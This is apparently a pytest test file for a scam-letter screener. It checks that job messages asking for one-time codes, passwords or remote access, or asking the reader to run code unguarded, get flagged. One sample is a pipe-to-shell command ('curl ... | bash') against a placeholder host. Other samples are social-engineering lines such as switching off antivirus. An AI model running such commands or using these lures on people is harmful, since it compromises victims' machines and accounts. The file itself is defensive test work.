"""Codes, control and foreign code: what is asked of the reader's machine."""

import pytest
from screened import letter_of, signals_of

HANDS_OVER = [
    "You will get a 6-digit code by SMS, please send it to me to book the slot.",
    "Paste the verification code here when it arrives.",
    "Please install AnyDesk before the interview so our engineer can check your setup.",
    "Download TeamViewer, our IT will walk you through.",
    "Share the one-time code you receive on WhatsApp.",
    "Please confirm your LinkedIn login: send us your password.",
    "Give our technician remote access to your computer.",
    "He wanted me to open TeamViewer while I was in my banking app.",
    "Schicken Sie mir bitte den Bestätigungscode, den Sie per SMS erhalten.",
    "Envíame el código de verificación que recibirás por SMS.",
]
HANDS_OVER_NOT = [
    "You'd support customers over TeamViewer and by phone.",
    "Never share a verification code with anybody, us included.",
    "We need someone who writes clean code and reviews code every day.",
    "Quote the reference code NX-417 when you write.",
    "Our passwordless login team is hiring.",
    "You would own one-time passcode delivery at our bank.",
    "The dress code is relaxed. Send your CV.",
    "ZIP code is 75241 if you want to check your commute.",
]


@pytest.mark.parametrize("text", HANDS_OVER)
def test_a_code_or_control_handed_over_means_stop(text):
    assert signals_of(letter_of(text))["asks_code_or_remote"] == "stop"


@pytest.mark.parametrize("text", HANDS_OVER_NOT)
def test_codes_as_a_topic_are_no_signal(text):
    assert "asks_code_or_remote" not in signals_of(letter_of(text))


RUNS = [
    "As a first step please clone our repository and run it with npm.",
    "Download our meeting app to join the interview.",
    "Pull the project, start it and send a screenshot.",
    "Bitte klonen Sie das Repository und starten Sie das Projekt.",
]
RUNS_UNGUARDED = [
    "Clone the repo and run npm install. Don't use a VM, and switch off your"
    " antivirus.",
    "The test task is attached (zip, password: apple7). Run the project and tell me.",
    "Open a terminal and paste this command: curl -s https://x.example/i | bash",
    "Press Windows + R, paste the text and hit enter to fix your camera.",
    "Before our call please clone the project and run it on your own machine.",
]
RUNS_NOT = [
    "There is a short take-home exercise later on.",
    "You'd look after our CI, Docker and npm packages.",
    "You can read the code in the browser; nothing needs to be installed.",
    "You'd run our mobile app team in Lisbon.",
    "You would install and maintain lifts in Bristol.",
    "We never ask you to download our app or run code.",
]


@pytest.mark.parametrize("text", RUNS)
def test_code_to_run_is_a_check(text):
    assert signals_of(letter_of(text))["run_code"] == "check"


@pytest.mark.parametrize("text", RUNS_UNGUARDED)
def test_code_to_run_unguarded_means_stop(text):
    assert signals_of(letter_of(text))["run_code"] == "stop"


@pytest.mark.parametrize("text", RUNS_NOT)
def test_ordinary_tests_and_duties_are_no_signal(text):
    assert "run_code" not in signals_of(letter_of(text))
